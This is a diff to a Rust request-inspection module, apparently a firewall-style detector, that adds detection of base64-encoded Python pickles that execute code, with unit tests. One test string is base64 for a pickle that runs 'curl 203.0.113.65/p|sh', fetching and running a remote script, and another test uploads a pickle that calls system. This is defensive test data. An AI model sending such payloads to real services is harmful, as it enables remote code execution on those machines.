@@ -1370,7 +1370,7 @@ fn body(c: &mut Collector<'_>, req: &RequestView<'_>) {
     } else if mt.ends_with("/xml") || mt.ends_with("+xml") {
         xmlrpc_logins(c, body);
         xml(c, body);
-    } else if pickle_runs_code(body) {
+    } else if pickle_runs_code(body) || base64_pickle_runs_code(body) {
         c.anomaly(
             rules::RCE_PICKLE,
             "body",
@@ -2380,6 +2380,30 @@ const PICKLE_FUNCTIONS: &[&[u8]] = &[
 /// code (`os.system`, `subprocess.Popen`, `builtins.exec`): loading it calls that function.
 /// Protocols 0 and 1 import with `c` module `\n` name `\n`; protocols 2 and later push two
 /// short strings (`\x8c` and a length) and `\x93`, with memo marks (`\x94`) between.
+/// A body that is base64 text of a pickle ([`pickle_runs_code`]): a model or a state sent
+/// as text, which the application decodes and loads. Only the first 64 KiB are decoded, and
+/// only when the first four characters decode to a pickle's opening.
+fn base64_pickle_runs_code(body: &[u8]) -> bool {
+    use base64::Engine as _;
+    let text = body.trim_ascii();
+    let b64 = |b: &u8| b.is_ascii_alphanumeric() || b"+/=-_".contains(b);
+    if text.len() < MIN_EMBEDDED_BASE64 || !text[..4].iter().all(b64) {
+        return false;
+    }
+    let head = EMBEDDED_BASE64.decode(&text[..4]).unwrap_or_default();
+    if !matches!(
+        head[..],
+        [0x80, 2..=5, ..] | [b'c' | b'(' | b']' | b'}', ..]
+    ) {
+        return false;
+    }
+    let cut = &text[..text.len().min(64 * 1024) / 4 * 4];
+    cut.iter().all(b64)
+        && EMBEDDED_BASE64
+            .decode(cut)
+            .is_ok_and(|decoded| pickle_runs_code(&decoded))
+}
+
 fn pickle_runs_code(content: &[u8]) -> bool {
     if !matches!(content, [0x80, 2..=5, ..] | [b'c' | b'(' | b']' | b'}', ..]) {
         return false;
@@ -3144,6 +3168,11 @@ mod tests {
             b"\x80\x04\x95\x1e\0\0\0\0\0\0\0}\x94(\x8c\x01a\x94]\x94(K\x01K\x02e\x8c\x01b\x94\x8c\x06system\x94u."
         ));
         assert!(!runs(b"cos\nsystems\n"));
+        // Sent as base64 text; other base64 is not one.
+        assert!(runs(
+            b"Y29zCnN5c3RlbQooUydjdXJsIDIwMy4wLjExMy42NS9wfHNoJwp0Ui4="
+        ));
+        assert!(!runs(b"aGVsbG8gd29ybGQsIHRoaXMgaXMgdGV4dA=="));
         // In an upload too.
         let upload = b"--b\r\nContent-Disposition: form-data; name=\"model\"; filename=\"m.pkl\"\r\nContent-Type: application/octet-stream\r\n\r\ncposix\nsystem\n(Vid\ntR.\r\n--b--\r\n";
         assert_eq!(
